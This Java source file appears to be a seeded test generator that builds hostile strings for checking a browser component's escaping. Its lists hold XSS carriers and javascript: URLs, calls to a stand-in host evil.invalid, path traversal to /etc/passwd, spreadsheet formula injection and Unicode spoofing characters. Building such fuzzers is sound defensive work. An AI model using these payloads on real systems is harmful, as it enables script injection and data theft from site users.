package dev.rolebook.browser;

import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Texts made to get out of the place they are put in: markup, scripts, addresses, formulas, odd
 * characters, joined and bent at random. The same seed makes the same texts.
 */
final class HostileText {
  private static final List<String> BREAK_OUTS =
      List.of(
          "\"",
          "'",
          ">",
          "\">",
          "'>",
          "`",
          "\\\"",
          "\\'",
          "\\",
          "</title>",
          "</textarea>",
          "</script>",
          "</SCRIPT >",
          "--></script>",
          "-->",
          "--!>",
          "]]>",
          "<!--",
          "<![CDATA[",
          "</style>",
          "</noscript>",
          "</template>",
          "</svg>",
          "</math>",
          "</pre>",
          "</a>",
          "</p>",
          "</td></table>",
          "&quot;",
          "&#34;",
          "&#x22;",
          "&#39",
          "&lt",
          "&amp;lt;",
          "%22%3E",
          "+ADw-",
          "\\x3c",
          "\\u003c",
          "<%=",
          "${",
          "#{",
          "{{",
          "@{",
          "!{",
          "*/",
          "//",
          "');",
          "\\');",
          "})();",
          "|",
          "\\|",
          "](x)",
          "![",
          "```",
          "{% raw %}",
          "<?php ",
          "\" ' ` \" '");

  private static final List<String> DEEDS =
      List.of(
          "alert(1)",
          "confirm`1`",
          "prompt(1)",
          "window.rolebookRan=1",
          "top.rolebookRan=1",
          "self['rolebookRan']=1",
          "fetch('//evil.invalid/a')",
          "document.title='ran'",
          "location='//evil.invalid/b'",
          "console.log(1)",
          "throw 1",
          "import('//evil.invalid/c')",
          "eval(name)",
          "document.write(1)",
          "new Image().src='//evil.invalid/d'",
          "print()",
          "history.pushState(0,0,'/ran')",
          "localStorage.ran=1",
          "document.cookie='ran=1'");

  /** DEED stands for one of the deeds. */
  private static final List<String> CARRIERS =
      List.of(
          "<script>DEED</script>",
          "<ScRiPt >DEED</sCrIpT>",
          "<script src=//evil.invalid/s></script>",
          "<img src=x onerror=DEED>",
          "<img/src=x/onerror=DEED>",
          "<image src=x onerror=\"DEED\">",
          "<svg onload=DEED>",
          "<svg><script>DEED</script></svg>",
          "<svg/onload=DEED//",
          "<svg><a xlink:href=\"javascript:DEED\"><text>x</text></a>",
          "<svg><animate onbegin=DEED attributeName=x dur=1s>",
          "<svg><use href=//evil.invalid/u#x>",
          "<svg><style><img src=x onerror=DEED></style>",
          "<math><mi xlink:href=\"javascript:DEED\">x</mi></math>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=DEED>",
          "<iframe srcdoc=\"<script>parent.DEED</script>\">",
          "<iframe src=javascript:DEED>",
          "<object data=javascript:DEED>",
          "<embed src=//evil.invalid/e>",
          "<a href=\"javascript:DEED\">x</a>",
          "<a href=java&Tab;script&colon;DEED>x</a>",
          "<area href=javascript:DEED>",
          "<form action=javascript:DEED><button>x",
          "<button formaction=javascript:DEED>x",
          "<input autofocus onfocus=DEED>",
          "<select autofocus onfocus=DEED>",
          "<details open ontoggle=DEED>x",
          "<video><source onerror=DEED>",
          "<audio src onloadstart=DEED>",
          "<body onload=DEED>",
          "<marquee onstart=DEED>x",
          "<meta http-equiv=refresh content=\"0;url=//evil.invalid/m\">",
          "<base href=//evil.invalid/>",
          "<link rel=stylesheet href=//evil.invalid/l>",
          "<link rel=prefetch href=//evil.invalid/p>",
          "<style>@import '//evil.invalid/i'</style>",
          "<style>*{background:url(//evil.invalid/k)}</style>",
          "<x style=animation-name:x onanimationstart=DEED>",
          "<x onclick=DEED id=rolebookRan>x",
          "<noscript><p title=\"</noscript><img src=x onerror=DEED>\">",
          "<template><script>DEED</script></template>",
          "<div><template shadowrootmode=open><img src onerror=DEED></template></div>",
          "<textarea autofocus onfocus=DEED>",
          "<plaintext>",
          "<xmp><img src=x onerror=DEED></xmp>",
          "<frameset onload=DEED>",
          "<isindex type=image src=1 onerror=DEED>",
          "<dialog open>x",
          "<p popover onbeforetoggle=DEED>x",
          " onmouseover=DEED x=",
          " autofocus onfocus=DEED x=",
          " style=position:fixed;inset:0 onclick=DEED ",
          "<![endif]--><script>DEED</script>");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:DEED",
          "JaVaScRiPt:DEED",
          " javascript:DEED",
          "java\\tscript:DEED",
          "javascript&colon;DEED",
          "javascript%3ADEED",
          "vbscript:DEED",
          "data:text/html,<script>DEED</script>",
          "data:text/html;base64,PHNjcmlwdD4=",
          "//evil.invalid/x",
          "/\\evil.invalid/x",
          "\\\\evil.invalid\\x",
          "https:evil.invalid",
          "http://evil.invalid/?q=<b>",
          "file:///etc/passwd",
          "../../../../etc/passwd",
          "blob:x",
          "mailto:a@evil.invalid?bcc=b@evil.invalid",
          "www.evil.invalid",
          "a@evil.invalid");

  private static final List<String> FORMULAS =
      List.of(
          "=cmd|'/C calc'!A0",
          "=HYPERLINK(\"http://evil.invalid\",\"x\")",
          "+1+1",
          "-2+3",
          "@SUM(1;2)",
          "=1+1",
          "'=1",
          "＝1",
          "\",=1,\"",
          "=IMPORTXML(\"http://evil.invalid\",\"//x\")");

  private static final List<String> NAMES =
      List.of(
          "__proto__",
          "constructor",
          "toString",
          "hasOwnProperty",
          "null",
          "undefined",
          "true",
          "NaN",
          "0",
          "-0",
          "1e999",
          "{}",
          "[]",
          "none",
          "$&",
          "$1",
          "\\0",
          "%s%n",
          "%00",
          "{0}",
          "{role}",
          "{count}",
          "@if(x)",
          "@endif",
          "@template.x()",
          "${x}",
          "CON",
          "..",
          "~");

  private static final List<String> ODD =
      List.of(
          "\u202Egnp.exe\u202C",
          "\u2066x\u2069",
          "\u200F",
          "\u200B",
          "\u200D",
          "\u00AD",
          "\u00A0",
          "\uFEFF",
          "\uFF1Cscript\uFF1E",
          "\u2039b\u203A",
          "\u0130I\u0131i",
          "\u00DF\uFB01\u01C4",
          "e\u0301\u0323\u0300\u0302",
          "Z\u0351\u0343\u036B\u0321",
          "\uD83D\uDC69\u200D\uD83D\uDCBB",
          "\uD83C\uDDE9\uD83C\uDDEA",
          "\u05E9\u05DC\u05D5\u05DD",
          "\u0645\u0647\u0646\u062F\u0633",
          "\u6A5F\u68B0",
          "\u0E01\u0E33",
          "\u0915\u094D\u0937",
          "\uD835\uDCEA",
          "\uE000",
          "\u0149",
          "\u1E9E",
          "\u2126K\u212A",
          "\uDB40\uDC41");

  private static final List<List<String>> ALL =
      List.of(BREAK_OUTS, CARRIERS, CARRIERS, ADDRESSES, FORMULAS, NAMES, ODD);

  private final Random random;

  HostileText(long seed) {
    random = new Random(seed);
  }

  /** The next text, on one line, with {@code mark} somewhere in it. */
  String next(String mark) {
    StringBuilder text = new StringBuilder();
    int pieces = 1 + random.nextInt(4);
    int marked = random.nextInt(pieces);
    for (int i = 0; i < pieces; i++) {
      String piece = pick(pick(ALL)).replace("DEED", pick(DEEDS));
      text.append(random.nextInt(5) == 0 ? bent(piece) : piece);
      if (i == marked) {
        text.append(mark);
      }
      text.append(random.nextInt(4) == 0 ? " " : "");
    }
    return text.toString().strip();
  }

  /** The same text as a careless or cunning hand would write it. */
  private String bent(String text) {
    int at = text.offsetByCodePoints(0, random.nextInt(text.codePointCount(0, text.length())));
    return switch (random.nextInt(6)) {
      case 0 -> text.toUpperCase(Locale.ROOT);
      case 1 -> text.substring(0, at);
      case 2 -> text.substring(0, at) + "\u200B" + text.substring(at);
      case 3 -> text.replace("<", "&lt;").replace("\"", "&quot;");
      case 4 -> text.replace("<", "%3C").replace(">", "%3E");
      default -> text.substring(0, at) + pick(BREAK_OUTS) + text.substring(at);
    };
  }

  private <T> T pick(List<T> from) {
    return from.get(random.nextInt(from.size()));
  }
}
